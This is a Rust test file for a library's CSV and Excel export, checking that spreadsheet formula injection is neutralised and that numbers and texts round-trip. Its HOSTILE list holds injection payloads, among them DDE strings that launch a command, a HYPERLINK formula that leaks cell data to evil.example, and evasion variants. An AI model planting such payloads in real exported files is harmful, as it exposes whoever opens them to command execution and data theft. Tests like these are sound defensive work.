//! R59: no text becomes a formula in a spreadsheet, numbers stay numbers, and every text comes back as it was.

use calamine::{Data, Reader, Xlsx};

use super::*;

/// What a spreadsheet would run, behind everything that it passes over.
const HOSTILE: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    " =1+1",
    "   @A1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\"=1+1",
    "\"\"=1+1\"",
    "'=1+1",
    "''=1+1",
    ",=1+1",
    ";=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\r\n=1+1;\"",
    "a\";=1+1;\"",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠A1",
    " ＝1+1",
];

/// What is no formula, and is written as it is.
const HARMLESS: &[&str] =
    &["-5", "+49.5", "-1.5e3", "Ada", "a=b", "O'Brien", "'quoted'", "1-1", "a@b.example", "x, =1"];

/// Whether a spreadsheet takes a cell for a formula: no number, and one of the signs behind what is passed over.
fn runs(cell: &str) -> bool {
    let start = cell.trim_start_matches(|char: char| {
        char.is_whitespace() || char.is_control() || matches!(char, '"' | '\u{feff}' | ',' | ';')
    });
    start.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && cell.trim().parse::<f64>().is_err()
}

/// The cells of a CSV file as another library takes it apart.
fn cells(file: &[u8], delimiter: u8) -> Vec<String> {
    let mut reader =
        ::csv::ReaderBuilder::new().delimiter(delimiter).flexible(true).has_headers(false).from_reader(file);
    let records = reader.byte_records().map(Result::unwrap);
    records
        .flat_map(|record| record.iter().map(|cell| String::from_utf8_lossy(cell).into_owned()).collect::<Vec<_>>())
        .collect()
}

#[test]
fn r59_no_cell_of_a_csv_is_a_formula_and_every_text_comes_back() {
    let all = [HOSTILE, HARMLESS].concat();
    let (columns, table) = texts(&all);
    let file = file(Format::Csv, &columns, &table, &WriteOptions::default());
    assert!(HOSTILE.iter().filter(|text| runs(text)).count() > 20, "the corpus is hostile");
    let first: Vec<_> = cells(&file, b',').into_iter().step_by(2).skip(1).collect();
    assert_eq!(first.len(), all.len());
    for (cell, text) in first.iter().zip(&all) {
        assert!(!runs(cell), "{text:?} was written {cell:?}");
        assert!(!cell.starts_with(['\t', '\r', '\n']), "{text:?} was written {cell:?}");
        if HARMLESS.contains(text) {
            assert_eq!(cell, text, "no formula is guarded");
        }
    }
    assert_eq!(first_texts(Format::Csv, &file, &ReadOptions::default()), all);
}

#[test]
fn r59_no_cell_of_a_csv_is_a_formula_where_it_is_split_by_another_delimiter() {
    let (columns, table) = texts(HOSTILE);
    let file = file(Format::Csv, &columns, &table, &WriteOptions::default());
    // As a spreadsheet of a country with decimal commas splits it: quotes count only where a cell begins with one.
    for delimiter in [';', '\t'] {
        for cell in String::from_utf8(file.clone()).unwrap().split(['\r', '\n', delimiter]) {
            assert!(!runs(cell) || cell.trim_start_matches(['"', ' ']).starts_with('\''), "{cell:?}");
        }
        for cell in cells(&file, delimiter as u8) {
            assert!(!runs(&cell), "{cell:?}");
        }
    }
}

#[test]
fn r59_the_header_is_guarded_too() {
    let columns = [Column::new("=1+1", Kind::Text).titled("@A1")];
    let names = file(Format::Csv, &columns, &[], &WriteOptions::default());
    assert_eq!(names, b"'=1+1\r\n");
    let titles = WriteOptions { heading: Heading::Titles, ..WriteOptions::default() };
    assert_eq!(file(Format::Csv, &columns, &[], &titles), b"'@A1\r\n");
    let reader = Format::Csv.reader(&names[..], &ReadOptions::default()).unwrap();
    assert_eq!(reader.columns().unwrap(), ["=1+1"]);
}

#[test]
fn r59_the_guard_can_be_left_off_for_files_that_programs_read() {
    let all = [HOSTILE, HARMLESS].concat();
    let (columns, table) = texts(&all);
    let raw = file(Format::Csv, &columns, &table, &WriteOptions { guard: Guard::Off, ..WriteOptions::default() });
    let first: Vec<_> = cells(&raw, b',').into_iter().step_by(2).skip(1).collect();
    assert_eq!(first, all);
    assert_eq!(first_texts(Format::Csv, &raw, &ReadOptions { guard: Guard::Off, ..ReadOptions::default() }), all);
}

#[test]
fn r59_numbers_stay_numbers_in_a_csv() {
    let columns = [Column::new("amount", euros()), Column::new("count", Kind::Integer)];
    let table = [vec![decimal("-1234.5"), Value::Integer(-7)], vec![decimal("0.00"), Value::Integer(0)]];
    let file = file(Format::Csv, &columns, &table, &WriteOptions::default());
    assert_eq!(String::from_utf8(file).unwrap(), "amount,count\r\n-1234.50,-7\r\n0.00,0\r\n");
}

#[test]
fn r59_a_workbook_has_texts_and_numbers_and_no_formula() {
    let all = [HOSTILE, HARMLESS].concat();
    let (mut columns, mut table) = texts(&all);
    columns[0].name = "=SUM(1)".to_owned();
    columns.push(Column::new("amount", euros()));
    table.iter_mut().for_each(|row| row.push(decimal("-12.5")));
    let file = file(Format::Excel, &columns, &table, &WriteOptions::default());

    let mut other = Xlsx::new(std::io::Cursor::new(&file)).unwrap();
    let range = other.worksheet_range("Sheet1").unwrap();
    assert_eq!(range.get((0, 0)), Some(&Data::String("=SUM(1)".to_owned())));
    for (row, text) in range.rows().skip(1).zip(&all) {
        assert_eq!(row, [Data::String((*text).to_owned()), Data::Float(1.0), Data::Float(-12.5)]);
    }
    assert_eq!(range.height(), all.len() + 1);
    let formulas = other.worksheet_formula("Sheet1").unwrap();
    assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()));

    assert_eq!(first_texts(Format::Excel, &file, &ReadOptions::default()), all);
    let read = rows(Format::Excel, &file, &ReadOptions::default());
    assert!(
        read.iter()
            .all(|row| row.get("one") == Some(&Value::Integer(1)) && row.get("amount") == Some(&decimal("-12.5")))
    );
}
